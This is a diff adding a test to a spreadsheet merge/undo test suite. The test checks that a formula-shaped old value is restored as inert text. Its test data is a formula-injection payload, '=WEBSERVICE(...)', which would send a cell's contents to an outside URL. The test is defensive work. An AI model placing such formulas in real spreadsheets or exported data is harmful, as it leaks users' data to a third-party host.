@@ -139,6 +139,19 @@ const mergeOf = (record: { readonly before: unknown }) => {
   return before.merge;
 };
 
+test("a record's old value that looks like a formula comes back as a text", async () => {
+  const { record } = await mergeIntoTable(job({ marks: null }), pace);
+  const merge = mergeOf(record);
+  const evil = '=WEBSERVICE("https://example.com/?"&A1)';
+  const changes = merge.changes.map(([id, column, , after]) => [id, column, evil, after] as const);
+  expect(changes.length).toBeGreaterThan(0);
+  await undoMerge(record, { ...merge, changes }, pace);
+  const cells = (await read("Sheet1", "A1:I9", "formulas")).flat();
+  expect(cells.filter((cell) => String(cell) === evil)).toHaveLength(changes.length);
+  // A cell with a formula has another value.
+  expect((await read("Sheet1", "A1:I9")).flat().filter((value) => value === evil)).toHaveLength(changes.length);
+});
+
 test("several columns are the id together, also on the way back; the record reads as before", async () => {
   const before = await image();
   const rows: CellValue[][] = [
